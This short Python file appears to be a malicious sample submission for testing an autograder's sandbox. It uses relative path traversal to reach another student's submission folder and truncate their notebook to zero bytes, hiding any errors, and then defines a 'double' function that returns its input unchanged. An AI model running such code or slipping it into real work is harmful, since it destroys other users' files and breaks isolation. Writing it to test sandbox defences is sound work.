# overwrites another student's submission
for folder in ("../../../submitted/bystander/target", "../../bystander/target"):
    try:
        open(f"{folder}/target.ipynb", "r+").truncate(0)
    except OSError:
        pass
def double(x):
    return x
